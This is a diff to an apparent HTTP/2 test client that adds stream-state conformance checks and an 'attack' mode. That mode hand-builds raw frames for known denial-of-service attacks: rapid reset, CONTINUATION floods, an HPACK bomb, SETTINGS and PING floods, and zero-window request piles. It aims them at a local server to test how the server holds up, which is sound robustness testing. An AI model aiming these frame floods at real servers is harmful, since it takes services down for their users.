@@ -149,6 +149,172 @@ elif mode == "idle":
     pump(lambda: bool(terminated) and bool(closed), timeout=20)
     code, data = terminated[0] if terminated else (None, b"")
     print("status=%s goaway=%s data=%s closed=%s" % (responses.get(sid, {}).get(":status"), code, (data or b"").decode(), bool(closed)))
+elif mode == "slowbody":
+    # One request whose body arrives after extra[0] seconds: an open stream keeps an idle connection alive.
+    sid = request("/echo", method="POST", end_stream=False)
+    sock.sendall(conn.data_to_send())
+    pump(lambda: bool(terminated) or bool(closed), timeout=float(extra[0]))
+    if not terminated and not closed:
+        conn.send_data(sid, b"late", end_stream=True)
+        pump(lambda: sid in ended or bool(terminated) or bool(closed))
+    print("status=%s body=%s terminated=%s" % (responses.get(sid, {}).get(":status"), bodies.get(sid, b"").decode(), bool(terminated)))
+elif mode in ("closed", "attack"):
+    # Raw frames (h2 refuses to send them): h2 only encodes the preface and header blocks; replies are parsed here.
+    case = extra[0]
+    pending = bytearray()
+    frames = []
+    def read_frames(until, timeout=10):
+        deadline = time.time() + timeout
+        sock.settimeout(0.5)
+        while time.time() < deadline:
+            if until():
+                return True
+            try:
+                data = sock.recv(65536)
+            except socket.timeout:
+                continue
+            except (ConnectionResetError, BrokenPipeError, ssl.SSLError, OSError):
+                data = b""
+            if not data:
+                closed.append(True)
+                return until()
+            pending.extend(data)
+            while len(pending) >= 9:
+                length = int.from_bytes(pending[0:3], "big")
+                if len(pending) < 9 + length:
+                    break
+                ftype, flags = pending[3], pending[4]
+                sid = int.from_bytes(pending[5:9], "big") & 0x7FFFFFFF
+                frames.append((ftype, flags, sid, bytes(pending[9:9 + length])))
+                del pending[:9 + length]
+                if ftype == 4 and not flags & 1:
+                    send(frame(4, 1, 0, b""))
+        return until()
+    def frame(ftype, flags, sid, payload):
+        return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + sid.to_bytes(4, "big") + payload
+    def errors():
+        # (kind, error code) of every RST_STREAM and GOAWAY received
+        out = []
+        for ftype, flags, sid, payload in frames:
+            if ftype == 3:
+                out.append(("RST_STREAM", int.from_bytes(payload[0:4], "big")))
+            elif ftype == 7:
+                out.append(("GOAWAY", int.from_bytes(payload[4:8], "big")))
+        return out
+    def stream_ended(sid):
+        return any(f[2] == sid and f[1] & 1 and f[0] in (0, 1) for f in frames)
+    def send(data):
+        try:
+            sock.sendall(data)
+        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
+            closed.append(True)
+    fields = [(":method", "POST"), (":path", "/echo"), (":scheme", "https" if ca != "-" else "http"), (":authority", "localhost")]
+    END_STREAM, END_HEADERS = 0x1, 0x4
+    sock.sendall(conn.data_to_send())
+    if mode == "closed":
+        STREAM_CLOSED = 5
+        block = conn.encoder.encode(fields)
+        if case == "data-after-rst":        # h2spec http2/5.1 #8
+            send(frame(1, END_HEADERS, 1, block) + frame(3, 0, 1, (8).to_bytes(4, "big")) + frame(0, END_STREAM, 1, b"test"))
+        elif case == "headers-after-rst":   # h2spec http2/5.1 #9
+            send(frame(1, END_HEADERS, 1, block) + frame(3, 0, 1, (8).to_bytes(4, "big"))
+                 + frame(1, END_HEADERS | END_STREAM, 1, conn.encoder.encode(fields)))
+        elif case == "data-half-closed":    # h2spec http2/5.1 #5
+            send(frame(1, END_HEADERS | END_STREAM, 1, block) + frame(0, END_STREAM, 1, b"test"))
+        elif case in ("data-after-close", "headers-after-close"):  # h2spec http2/5.1 #11, #12
+            send(frame(1, END_HEADERS | END_STREAM, 1, block))
+            read_frames(lambda: stream_ended(1))
+            if case == "data-after-close":
+                send(frame(0, END_STREAM, 1, b"test"))
+            else:
+                send(frame(1, END_HEADERS | END_STREAM, 1, conn.encoder.encode(fields)))
+        read_frames(lambda: any(code == STREAM_CLOSED for _, code in errors()) or bool(closed), timeout=5)
+        print("stream_closed=%s errors=%s" % (any(code == STREAM_CLOSED for _, code in errors()),
+                                              ",".join("%s:%d" % e for e in errors())))
+    else:
+        # Attacks: throw frames at the server for extra[1] rounds, then report how the connection ended.
+        rounds = int(extra[1]) if len(extra) > 1 else 1
+        done = 0
+        if case == "rapid-reset":
+            # Open a stream and reset it at once, over and over (CVE-2023-44487).
+            sid = 1
+            for r in range(rounds):
+                batch = bytearray()
+                for _ in range(100):
+                    batch += frame(1, END_HEADERS, sid, conn.encoder.encode(fields)) + frame(3, 0, sid, (8).to_bytes(4, "big"))
+                    sid += 2
+                send(bytes(batch))
+                if closed:
+                    break
+                done += 1
+        elif case == "continuation":
+            # HEADERS without END_HEADERS, then CONTINUATION frames of literal fields for ever (CVE-2024-27316 class).
+            send(frame(1, 0, 1, conn.encoder.encode(fields)))
+            literal = b"\x00\x03x-a" + bytes([0x7F, 0x81, 0x1F]) + b"a" * 4096  # literal, not indexed, 4 KiB value
+            for r in range(rounds):
+                send(frame(9, 0, 1, literal * 3))
+                if closed:
+                    break
+                done += 1
+        elif case == "hpack-bomb":
+            # One 4000-byte field in the dynamic table, then header blocks that reference it 16000 times each
+            # (64 MB decoded per block). Static-table-only blocks, so h2's own encoder state does not matter.
+            base = (b"\x82\x84" + (b"\x87" if ca != "-" else b"\x86") + b"\x01\x09localhost")
+            big = b"\x40\x03x-b" + bytes([0x7F, 0xA1, 0x1E]) + b"b" * 4000   # literal with incremental indexing
+            sid = 1
+            send(frame(1, END_HEADERS | END_STREAM, sid, base + big))
+            for r in range(rounds):
+                sid += 2
+                send(frame(1, END_HEADERS | END_STREAM, sid, base + b"\xbe" * 16000))
+                if closed:
+                    break
+                done += 1
+        elif case == "settings-flood":
+            for r in range(rounds):
+                send(frame(4, 0, 0, (3).to_bytes(2, "big") + (100).to_bytes(4, "big")) * 1000)
+                if closed:
+                    break
+                done += 1
+        elif case == "ping-flood":
+            for r in range(rounds):
+                send(frame(6, 0, 0, b"12345678") * 1000)
+                if closed:
+                    break
+                done += 1
+        elif case == "zero-window":
+            # Connection and stream windows at zero: the server can answer nothing; it must hold, not grow.
+            send(frame(4, 0, 0, (4).to_bytes(2, "big") + (0).to_bytes(4, "big")))
+            sid = 1
+            for r in range(rounds):
+                batch = bytearray()
+                for _ in range(50):
+                    batch += frame(1, END_HEADERS | END_STREAM, sid, conn.encoder.encode([(":method", "GET"), (":path", "/big"), (":scheme", fields[2][1]), (":authority", "localhost")]))
+                    sid += 2
+                send(bytes(batch))
+                read_frames(lambda: False, timeout=0.2)
+                if closed:
+                    break
+                done += 1
+        read_frames(lambda: bool(closed), timeout=2)
+        print("sent rounds=%d closed=%s errors=%s" % (done, bool(closed), ",".join("%s:%d" % e for e in errors()[:3])))
+elif mode == "churn":
+    # Connection churn: extra[0] connections, each with preface, one request and an abrupt close.
+    sock.close()
+    answered = 0
+    for i in range(int(extra[0])):
+        sock = connect()
+        conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
+        conn.initiate_connection()
+        sid = request("/echo")
+        if i % 2 == 0:
+            pump(lambda: sid in ended, timeout=5)
+            if responses.get(sid, {}).get(":status") == "200":
+                answered += 1
+        else:
+            sock.sendall(conn.data_to_send())
+        sock.close()
+        responses.clear(); ended.clear()
+    print("answered=%d" % answered)
 elif mode == "hpack":
     # How each x-id arrived (indexed literal or never-indexed), and what the HPACK table holds afterwards.
     n = int(extra[0])
